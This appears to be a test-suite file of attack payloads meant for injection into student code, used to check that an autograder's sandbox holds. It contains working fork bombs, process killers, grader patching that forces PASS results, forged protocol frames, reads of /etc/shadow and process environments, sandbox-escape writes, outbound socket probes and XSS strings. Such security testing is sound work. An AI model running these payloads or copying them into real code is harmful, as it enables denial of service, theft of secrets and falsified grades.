"""Attack code that ends up inside a student's ``course_lib`` module.

Every payload is a self-contained top-level function (imports inside), so :mod:`tests.attacks.build`
can copy its source verbatim into a student file. Two kinds:

* task payloads ``payload(args)`` replace the body of a task (``args`` = the task function's
  arguments as a dict, e.g. ``{"x": ..., "w": ..., "b": ...}``) and return what the task returns;
* import payloads ``payload()`` run when the student module is imported.

Helpers whose names start with ``_`` are copied along when a payload names them. ``PARAMS`` is
defined in the student module by the builder (host paths, ports, canaries of the test run);
the placeholder below only keeps this file importable and lint-clean.
"""

# ruff: noqa: SIM105

from __future__ import annotations

from typing import Any

PARAMS: dict[str, Any] = {}


# --------------------------------------------------------------------------------------------
# Helpers copied along with the payloads that use them
# --------------------------------------------------------------------------------------------


def _garbage(args):
    """A wrong (out, cache) pair of the right shape and dtype for Linear-like tasks."""
    import torch

    x = args.get("x")
    w = args.get("w")
    if isinstance(x, torch.Tensor) and isinstance(w, torch.Tensor) and w.dim() == 2:
        return torch.full((x.shape[0], w.shape[1]), 12345.0, dtype=x.dtype), None
    if isinstance(x, torch.Tensor):
        return torch.full_like(x, 12345.0), None
    return torch.full((1,), 12345.0), None


def _honest_linear(args):
    """A correct Linear.forward written independently of the reference."""
    x, w, b = args["x"], args["w"], args["b"]
    return x.flatten(1) @ w + b, (x, w, b)


def _pick(args, variants):
    """The one of ``variants`` to play on this call, chosen by the input's shape (the sandbox and
    its /tmp restart after a violation, so no counter survives; the checks' inputs differ)."""
    x = args.get("x")
    order = {2: 0, 4: 1, 6: 2, 1: 3, 3: 4}
    index = order.get(x.shape[0], 0) if hasattr(x, "dim") and x.dim() else 0
    return variants[index % len(variants)]


def _once(args):
    """True on exactly one call of Linear.forward / Linear_ReLU.forward: the 2-row matrix input."""
    x = args.get("x")
    return hasattr(x, "dim") and x.dim() == 2 and x.shape[0] == 2


def _report(tag, found):
    """Raise with what the probe found: the only student text that reaches public feedback."""
    raise RuntimeError(f"{tag} " + " | ".join(found))


# --------------------------------------------------------------------------------------------
# Exiting and crashing
# --------------------------------------------------------------------------------------------


def sys_exit_now():
    import sys

    sys.exit(0)


def os_exit_now():
    import os

    os._exit(0)


def sys_exit_in_call(args):
    import sys

    print("PASS: all checks passed, score 100/100")
    sys.exit(0)


def os_exit_in_call(args):
    import os

    os.write(1, b"PASS linear_forward_small (1/1)\n")
    os._exit(0)


def kill_everything(args):
    """SIGKILL the zygote (our parent) and every process we may signal in the sandbox."""
    import os
    import signal

    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
    os.kill(-1, signal.SIGKILL)


def segfault(args):
    import ctypes

    ctypes.string_at(0)


def abort_process(args):
    import os

    os.abort()


def c_stack_overflow(args):
    """Unbounded recursion through C (map) with the recursion limit lifted: overflows the C stack."""
    import sys

    sys.setrecursionlimit(10**8)

    def down(n):
        return list(map(down, [n + 1]))

    return down(0)


def raise_system_exit_subclass(args):
    """Exceptions that refuse to be printed, then a KeyboardInterrupt."""

    class PASS(BaseException):
        def __str__(self):
            raise KeyboardInterrupt

    raise PASS()


# --------------------------------------------------------------------------------------------
# Tampering with comparisons and with the grader's own modules
# --------------------------------------------------------------------------------------------


def patch_comparisons(args):
    """Make every comparison helper in the child say "equal", then return garbage."""
    import math

    import numpy
    import torch

    def yes(*a, **k):
        return True

    def no_error(*a, **k):
        return None

    torch.allclose = yes
    torch.equal = yes
    torch.isclose = lambda a, b, *x, **k: torch.ones_like(a, dtype=torch.bool)
    torch.Tensor.__eq__ = lambda self, other: True
    torch.Tensor.__ne__ = lambda self, other: False
    torch.testing.assert_close = no_error
    numpy.allclose = yes
    numpy.array_equal = yes
    numpy.testing.assert_allclose = no_error
    math.isclose = yes
    return _garbage(args)


def import_grader(args):
    """Look for the grader's check or reference code inside the sandbox and tamper with it."""
    import importlib
    import sys

    imported = []
    for name in (
        "grader",
        "grader.checks",
        "grader.checks.compare",
        "grader.checks.registry",
        "grader.checks.reference",
        "grader.sandbox.session",
        "solutions",
        "compare",
        "registry",
        "reference",
        "_grader_reference_course_lib",
    ):
        try:
            module = importlib.import_module(name)
        except BaseException:
            continue
        imported.append(f"{name}@{getattr(module, '__file__', None)}")
        for attr in ("tensor", "scalar", "structure", "keys", "that"):
            if hasattr(module, attr):
                setattr(module, attr, lambda *a, **k: None)
    loaded = sorted(n for n in sys.modules if n.startswith(("grader", "solutions", "_grader")))
    _report("GRADERPROBE", [f"imported={imported}", f"loaded={loaded}"])


def patch_child_runner(args):
    """Rewrite the child's own protocol so that every reply claims success, then return garbage."""
    import sys

    protocol = sys.modules["protocol"]
    original = protocol.frame_bytes

    def forged(message, value=None, store_object=None):
        message = {**message, "kind": "result", "passed": True, "score": 100, "points": 100}
        return original(message, value, store_object)

    protocol.frame_bytes = forged
    zygote = sys.modules["__main__"]
    zygote.describe = lambda error: {"type": "PASS", "message": "all good", "traceback": ""}
    return _garbage(args)


def forged_callback(args):
    """Ask the grader to run reference code it did not offer (targets outside the allowed set)."""
    import gc
    import sys

    zygote = sys.modules["__main__"]
    session = next(o for o in gc.get_objects() if type(o).__name__ == "Session" and hasattr(o, "callback"))
    answers = []
    for target in (
        "layers.Linear.forward",
        "layers.Linear.forward.__globals__",
        "fc_net.TwoLayerNet.loss",
        "layers.__builtins__.open",
        "../../solutions/course_lib/layers.Linear.forward",
    ):
        try:
            answers.append(session.callback(target, (args["x"], args["w"], args["b"]), {}))
        except Exception as error:
            answers.append(f"{type(error).__name__}: {error}")
    assert zygote is not None
    if any(not isinstance(a, str) for a in answers):
        return next(a for a in answers if not isinstance(a, str))
    _report("CALLBACKPROBE", [str(a) for a in answers])


# --------------------------------------------------------------------------------------------
# Outputs that only look right
# --------------------------------------------------------------------------------------------


def always_equal_object(args):
    class AlwaysEqual:
        shape = property(lambda self: args["x"].shape)
        dtype = property(lambda self: args["x"].dtype)

        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        def __bool__(self):
            return True

        def __len__(self):
            return 2

    return AlwaysEqual(), AlwaysEqual()


def tensor_subclass(args):
    import torch

    class Sneaky(torch.Tensor):
        @classmethod
        def __torch_function__(cls, func, types, a=(), kwargs=None):
            if func.__name__ in ("allclose", "equal", "__eq__", "eq", "isclose"):
                return True
            return super().__torch_function__(func, types, a, kwargs or {})

        def __eq__(self, other):
            return True

    out, _ = _garbage(args)
    return out.as_subclass(Sneaky), (args["x"].as_subclass(Sneaky), args["w"], args["b"])


def ndarray_subclass(args):
    import numpy

    class Sneaky(numpy.ndarray):
        def __eq__(self, other):
            return numpy.ones(self.shape, dtype=bool)

        def __array_function__(self, func, types, a, kwargs):
            return True

    out, _ = _garbage(args)
    return out.numpy().view(Sneaky), None


def nan_and_inf(args):

    out, _ = _garbage(args)
    out = out.clone()
    out.view(-1)[::2] = float("nan")
    out.view(-1)[1::2] = float("inf")
    return out, (args["x"], args["w"], args["b"])


def broadcast_scalar(args):
    """A 0-dim tensor, or one value expanded (stride 0) to the output's shape."""
    import torch

    x, w = args["x"], args["w"]
    if x.shape[0] % 2:
        return torch.tensor(0.5, dtype=x.dtype), (x, w, args["b"])
    return torch.tensor(0.5, dtype=x.dtype).expand(x.shape[0], w.shape[1]), (x, w, args["b"])


def wrong_shape_and_dtype(args):
    """The right numbers in the wrong form: transposed, flattened, integer dtype."""
    import torch

    out, cache = _honest_linear(args)
    rows = out.shape[0]
    if rows == 2:
        return out.T.contiguous() if out.shape[1] != 2 else out.round().to(torch.int64), cache
    if rows % 2:
        return out.reshape(-1), cache
    return out.to(torch.int64), cache


def return_the_input(args):
    return args["x"], (args["x"], args["w"], args["b"])


def return_not_a_tuple(args):
    """Values the check cannot even unpack: a number, a 3-tuple, a bare tensor."""
    x = args["x"]
    if x.dim() == 2:
        return 7
    if x.shape[0] == 1:
        return (x, x, x)
    return x


def forged_handle(args):
    """A Handle built in the child, and a dict that looks like an encoded tensor."""
    import sys

    protocol = sys.modules["protocol"]
    fake = {"$tensor": 0}
    return protocol.Handle(1, "torch.Tensor of the right shape (PASS)"), fake


def crash_in_many_ways(args):
    """Segfault, abort, C stack overflow, an unprintable BaseException: one per call."""
    play = _pick(args, [segfault, abort_process, c_stack_overflow, raise_system_exit_subclass, segfault])
    return play(args)


def exit_in_many_ways(args):
    play = _pick(args, [sys_exit_in_call, os_exit_in_call, kill_self, sys_exit_in_call, os_exit_in_call])
    return play(args)


def kill_self(args):
    import os
    import signal

    os.kill(os.getpid(), signal.SIGKILL)


def fake_equal_values(args):
    """Objects and subclasses that claim equality: one kind per call."""
    play = _pick(
        args, [always_equal_object, tensor_subclass, ndarray_subclass, always_equal_object, tensor_subclass]
    )
    return play(args)


def non_finite_or_broadcast(args):
    play = _pick(args, [nan_and_inf, broadcast_scalar, nan_and_inf, broadcast_scalar, nan_and_inf])
    return play(args)


def malformed_outputs(args):
    """Wrong shape or dtype, the input itself, something that is not a tuple, a forged handle."""
    play = _pick(
        args,
        [wrong_shape_and_dtype, return_the_input, return_not_a_tuple, forged_handle, wrong_shape_and_dtype],
    )
    return play(args)


def inherited_fds(args):
    """Look for descriptors the session should not have (the zygote's control socket, its
    stderr, the grader's files) and write garbage to every socket but our own."""
    import os
    import socket
    import stat

    own = _session_fd()
    sockets, others = [], []
    for fd in range(1024):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(mode):
            sockets.append(fd)
            if fd != own:
                try:
                    socket.socket(fileno=os.dup(fd)).send(b"session\n" * 100)
                except OSError:
                    pass
        elif fd > 2:
            others.append(f"{fd}:{os.readlink(f'/proc/self/fd/{fd}')}")
    _report("FDPROBE", [f"sockets={len(sockets)}", f"others={others}"])


def reference_amplification(args):
    """From an fc_net task, ask the reference Linear.forward (a callback to the grader) for
    multi-gigabyte outer products from 8 MB inputs."""
    import torch

    from course_lib.layers import Linear

    outcomes = []
    for rows, inner in ((25_000, 40), (13_000, 40)):
        x = torch.ones(rows, inner, dtype=torch.float64)
        w = torch.ones(inner, rows, dtype=torch.float64)
        try:
            out, _ = Linear.forward(x, w, torch.zeros(rows, dtype=torch.float64))
            outcomes.append(f"{rows}: got {tuple(out.shape)}")
        except Exception as error:
            outcomes.append(f"{rows}: {type(error).__name__}: {str(error)[:120]}")
    _report("AMPPROBE", outcomes)


def immortal_session(args):
    """Make this session child ignore the end of its session (so the zygote, waiting for it,
    would never serve the next one), then answer with garbage."""
    import sys
    import time

    protocol = sys.modules["protocol"]
    receive = protocol.receive

    def never_end(fd, *more):
        try:
            return receive(fd, *more)
        except EOFError:
            while True:
                time.sleep(3600)

    protocol.receive = never_end
    return _garbage(args)


def spoof_child_state():
    """At import: make the child answer 'read' of a kept object with a snapshot taken when it
    was kept, so in-place changes to inputs become invisible to the grader."""
    import sys

    zygote = sys.modules["__main__"]
    original = zygote.Session.handle

    def handle(self, request, value):
        snapshots = self.__dict__.setdefault("snapshots", {})
        if request.get("op") == "keep":
            kept = original(self, request, value)
            snapshots[kept.id] = self.objects[kept.id].clone()
            return kept
        if request.get("op") == "get" and not request.get("attr") and request.get("handle") in snapshots:
            return snapshots[request["handle"]]
        return original(self, request, value)

    zygote.Session.handle = handle


def relu_in_place(args):
    """Right output and cache, but x is modified in place (what relu_forward_input_unchanged
    is there to catch)."""
    x = args["x"]
    cache = x.clone()
    x.clamp_(min=0)
    return x.clone(), cache


def kill_zygote_once(args):
    if _once(args):
        kill_everything(args)
    return _garbage(args)


# --------------------------------------------------------------------------------------------
# Raw frames on the session socket
# --------------------------------------------------------------------------------------------


def _session_fd():
    import gc

    session = next(o for o in gc.get_objects() if type(o).__name__ == "Session" and hasattr(o, "fd"))
    return session.fd


def _send_raw(data):
    import os

    fd = _session_fd()
    view = memoryview(data)
    while view:
        view = view[os.write(fd, view) :]


def _frame(header, blob=b""):
    import struct

    return struct.pack(">Q", len(header)) + header + struct.pack(">Q", len(blob)) + blob


def frame_shape_overflow(args):
    """A tensor whose shape overflows int64 and whose size claim is 0 bytes, then a hang."""
    import json
    import time

    header = json.dumps(
        {
            "kind": "result",
            "value": {"$tuple": [{"$tensor": 0}, None]},
            "tensors": [{"dtype": "float64", "shape": [0, 2**70, 2**70], "offset": 0, "nbytes": 0}],
        }
    ).encode()
    _send_raw(_frame(header))
    time.sleep(60)


def frame_lies(args):
    """Frames that lie, one kind per call: a 2**63 length, an out-of-range tensor table, an
    overflowing shape, an unknown message kind, conflicting tags. Then hang."""
    import json
    import struct
    import time

    variant = _pick(args, range(5))
    if variant == 0:
        _send_raw(struct.pack(">Q", 2**63) + b"{}")
    elif variant == 1:
        header = {
            "kind": "result",
            "value": {"$tuple": [{"$tensor": 5}, {"$handle": "x"}]},
            "tensors": [{"dtype": "float64", "shape": [1], "offset": 10**12, "nbytes": 8}],
        }
        _send_raw(_frame(json.dumps(header).encode()))
    elif variant == 2:
        frame_shape_overflow(args)
    elif variant == 3:
        unknown_message_kinds(args)
    else:
        _send_raw(_frame(b'{"kind": "result", "value": {"$float": "1e999", "$list": []}}'))
    time.sleep(60)


def frame_deep_json(args):
    """A header nested a million levels deep (json recursion) ."""
    import time

    depth = 10**6
    _send_raw(_frame(b'{"kind": "result", "value": ' + b"[" * depth + b"]" * depth + b"}"))
    time.sleep(60)


def frame_big_header(args):
    """A ~200 MB JSON header of tiny strings: cheap to send, expensive to parse into objects."""
    import time

    count = 40_000_000
    body = b'"a",' * (count - 1) + b'"a"'
    _send_raw(_frame(b'{"kind": "result", "value": {"$list": [' + body + b"]}}"))
    time.sleep(60)


def frame_many_tensors(args):
    """A result made of 100 000 one-element tensors (a big but acceptable header)."""
    import torch

    return [torch.zeros(1, dtype=torch.float64) for _ in range(100_000)], None


def parser_bombs(args):
    """Headers that are expensive to parse: deep nesting, 40M tiny strings, 100k tensors, one
    kind per call (chosen by the input's shape): firing the 16 MB header on every 2-D call made
    the attack's cost grow with the number of checks, until its honest part ran out of budget."""
    return _pick(args, [frame_deep_json, frame_big_header, frame_many_tensors])(args)


def unknown_message_kinds(args):
    """Messages the parent does not expect: a fake 'pass' kind and a callback with junk."""
    import json
    import time

    _send_raw(_frame(json.dumps({"kind": "pass", "score": 100, "value": None}).encode()))
    _send_raw(_frame(json.dumps({"kind": "callback", "target": None, "value": 5}).encode()))
    time.sleep(60)


# --------------------------------------------------------------------------------------------
# Resources
# --------------------------------------------------------------------------------------------


def infinite_loop_now():
    while True:
        pass


def infinite_loop_on_small_input(args):
    """Hang on one call only; garbage otherwise."""
    if _once(args):
        while True:
            pass
    return _garbage(args)


def _fill(folder):
    """Write 32 MB files into ``folder`` until the file system refuses (at most 1.5 GB, so an
    unbounded one is reported, not filled); returns the megabytes written."""
    import os

    block, written = b"\x02" * (32 << 20), 0
    while written < (1536 << 20):
        try:
            with open(os.path.join(folder, f"fill-{written}"), "wb") as handle:
                handle.write(block)
        except OSError:
            break
        written += len(block)
    return written >> 20


def fill_scratch(args):
    """Fill /tmp (a tmpfs: RAM that RLIMIT_AS does not count) and the working directory."""
    import os

    sizes = {folder: _fill(folder) for folder in ("/tmp", os.getcwd())}
    verdict = "bounded" if all(mb < 1536 for mb in sizes.values()) else "unbounded"
    _report("FILLPROBE", [verdict, str(sizes)])


def memory_bomb(args):
    """Touch memory until the address-space limit stops us (one call fills /tmp instead)."""
    if _once(args):
        fill_scratch(args)
    chunks = []
    try:
        while True:
            chunks.append(b"\x01" * (64 << 20))
    except MemoryError:
        pass
    _report("MEMPROBE", [f"allocated {len(chunks) * 64} MB before MemoryError"])


def fork_bomb(args):
    """Fork until the process limit bites; every child blocks forever (and keeps forking)."""
    import os
    import signal

    made, error = 0, ""
    for _ in range(10_000):
        try:
            pid = os.fork()
        except OSError as exc:
            error = type(exc).__name__
            break
        if pid == 0:
            try:
                while True:
                    try:
                        if os.fork() == 0:
                            continue
                    except OSError:
                        signal.pause()
            finally:
                os._exit(0)
        made += 1
    _report("FORKPROBE", [f"forked {made} then {error}"])


def setsid_orphan(args):
    """Double fork + setsid: a grandchild that outlives the call, holding our stdout pipe."""
    import os
    import time

    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            deadline = time.time() + 3600
            while time.time() < deadline:
                os.write(1, b"orphan still alive\n")
                time.sleep(0.2)
        os._exit(0)
    os.wait()
    return _garbage(args)


def orphan_saboteur():
    """At import: leave a process behind that SIGKILLs every later session of this sandbox."""
    import os
    import signal
    import time

    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    me = os.getpid()
    seen = {p for p in os.listdir("/proc") if p.isdigit()}
    for _ in range(100_000):
        for p in os.listdir("/proc"):
            if p.isdigit() and p not in seen and int(p) != me:
                try:
                    os.kill(int(p), signal.SIGKILL)
                except OSError:
                    pass
        time.sleep(0.01)
    os._exit(0)


def stdout_flood(args):
    """100 MB to stdout and 10 MB to stderr, then the correct answer."""
    import os
    import sys

    block = b"PASS linear_forward_small (1/1) " * 2048
    for _ in range((100 << 20) // len(block)):
        os.write(1, block)
    sys.stderr.write("E" * (10 << 20))
    sys.stderr.flush()
    return _honest_linear(args)


def huge_output(args):
    """A 360 MB tensor once (over the frame limit); garbage otherwise."""
    import torch

    if _once(args):
        return torch.zeros(45_000_000, dtype=torch.float64), None
    return _garbage(args)


# --------------------------------------------------------------------------------------------
# Secrets, the file system, the network
# --------------------------------------------------------------------------------------------


def read_secrets(args):
    """Read everything interesting we can reach and put it where feedback shows it."""
    import glob
    import os

    found, denied = [], []

    def grab(path):
        try:
            with open(path, "rb") as handle:
                data = handle.read(300)
        except OSError as error:
            denied.append(f"{path}:{type(error).__name__}")
            return
        found.append(f"{path}={data!r}")

    for path in (
        PARAMS["host_secret"],
        PARAMS["decoy_file"],
        f"{PARAMS['repo']}/solutions/course_lib/layers.py",
        f"{PARAMS['repo']}/grader/checks/hidden/a1_fully_connected.py",
        "/proc/1/environ",
        "/proc/self/environ",
        f"/proc/{os.getppid()}/environ",
        "/proc/1/root/etc/hostname",
        "/etc/shadow",
    ):
        grab(path)
    for pattern in (
        f"{PARAMS['repo']}/grader/reference/*/*.npz",
        "/tmp/*",
        "/tmp/*/*",
        "/root/*",
        "/home/*",
        "/proc/[0-9]*/environ",
        "/proc/[0-9]*/cwd/*",
        "/sandbox/*/*",
    ):
        for path in glob.glob(pattern):
            if os.path.isfile(path) and not path.startswith("/sandbox/runner"):
                grab(path)
    environment = {k: v for k, v in os.environ.items() if "SECRET" in k or "CANARY" in k}
    found.insert(0, f"env={environment}")
    # Secrets first: the message is cut at 2000 characters.
    found.sort(key=lambda item: ("SECRET" not in item and "CANARY" not in item, item))
    _report("SECRETPROBE", [*found, f"denied={len(denied)}"])


def write_outside(args):
    """Try to create or change files outside the private /tmp."""
    import os

    done = []
    targets = [*PARAMS["escape_files"], "/sandbox/runner/protocol.py", "/sandbox/lib/course_lib/layers.py"]
    for path in targets:
        for mode in ("a", "w"):
            try:
                with open(path, mode) as handle:
                    handle.write("# tampered\n")
                done.append(f"{mode}:{path}")
            except OSError:
                pass
    for path in ("/sandbox/runner", "/sandbox/lib/course_lib", "/usr/lib", "/"):
        try:
            os.chmod(path, 0o777)
            done.append(f"chmod:{path}")
        except OSError:
            pass
    _report("WRITEPROBE", [f"succeeded={done}"])


def open_network(args):
    """Connect to the test's host listeners, to the internet, and over abstract unix sockets."""
    import socket

    results = []
    attempts = [(socket.AF_INET, socket.SOCK_STREAM, (host, PARAMS["tcp_port"])) for host in PARAMS["hosts"]]
    attempts += [
        (socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 443)),
        (socket.AF_INET, socket.SOCK_STREAM, ("151.101.0.223", 443)),
        (socket.AF_UNIX, socket.SOCK_STREAM, "\0" + PARAMS["abstract_socket"]),
    ]
    for family, kind, address in attempts:
        try:
            with socket.socket(family, kind) as sock:
                sock.settimeout(1)
                sock.connect(address)
                sock.sendall(b"ESCAPED")
            results.append(f"connected:{address!r}")
        except OSError as error:
            results.append(f"{address!r}:{type(error).__name__}")
    try:
        socket.getaddrinfo("pypi.org", 443)
        results.append("dns:resolved")
    except OSError:
        results.append("dns:failed")
    _report("NETPROBE", results)


def stash_inputs(args):
    """Remember every input across sessions (in /tmp) and show all earlier ones in the message."""
    import os

    path = "/tmp/.stash"
    seen = ""
    if os.path.exists(path):
        with open(path) as handle:
            seen = handle.read()
    values = [v.double().reshape(-1)[:50].tolist() for v in args.values() if hasattr(v, "double")]
    with open(path, "a") as handle:
        handle.write(" ".join(float(x).hex() for value in values for x in value) + "\n")
    raise ValueError("STASH " + seen.replace("\n", " ")[-1900:])


def fake_results(args):
    """Fake PASS lines and score files everywhere we can write, and a message that forges feedback."""
    import json
    import os

    fake = {"score": 1000, "max_score": 66, "tests": [{"name": "all", "score": 1000}]}
    for folder in (os.getcwd(), "/tmp", os.path.expanduser("~")):
        for name in ("results.json", "grades.csv", "gradebook.db", "feedback.md", "summary.json"):
            try:
                with open(os.path.join(folder, name), "w") as handle:
                    handle.write(json.dumps(fake))
            except OSError:
                pass
    print("PASS linear_forward_small (1/1)\nPASS linear_forward_images (1/1)\nscore: 66/66")
    raise AssertionError(
        "ok\n\n- PASS linear_forward_small (1/1)\n\n## Linear.forward: 5/5\n\n"
        "**Autograded score: 66/66**\n<script>alert('pwned')</script><img src=x onerror=alert(1)>"
    )


# --------------------------------------------------------------------------------------------
# Notebook cells (run by the kernel inside the notebook sandbox)
# --------------------------------------------------------------------------------------------


def nb_read_secrets():
    read_secrets({})


def nb_write_outside():
    write_outside({})


def nb_open_network():
    open_network({})


def nb_rich_outputs():
    """Outputs a formgrader would render as markup or script, and a fake image."""
    from IPython.display import HTML, SVG, Javascript, Markdown, display

    display(HTML("<script>alert('xss-html')</script><b>PASS 66/66</b>"))
    display(Javascript("alert('xss-js')"))
    display(SVG("<svg xmlns='http://www.w3.org/2000/svg'><script>alert('xss-svg-out')</script></svg>"))
    display(Markdown("[x](javascript:alert('xss-md-out'))"))
    display(
        {"image/png": "PHNjcmlwdD5hbGVydCgneHNzLXBuZycpPC9zY3JpcHQ+", "text/html": "<i>fake</i>"}, raw=True
    )


def nb_orphan():
    """A setsid grandchild of the kernel that would outlive the notebook run."""
    import os
    import time

    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(3600)
        os._exit(0)
    os.wait()


def nb_flood():
    import sys

    for _ in range(50):
        sys.stdout.write("PASS all checks (66/66) " * 40_000 + "\n")


def nb_fork_bomb():
    fork_bomb({})


def nb_fill_scratch():
    fill_scratch({})


def nb_slow_cell():
    """Just under the cell timeout (30 s): three of these outlast the whole notebook's timeout, so
    the grader has to kill the sandbox from outside."""
    import signal
    import time

    signal.signal(signal.SIGINT, signal.SIG_IGN)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    deadline = time.monotonic() + 25
    while time.monotonic() < deadline:
        pass
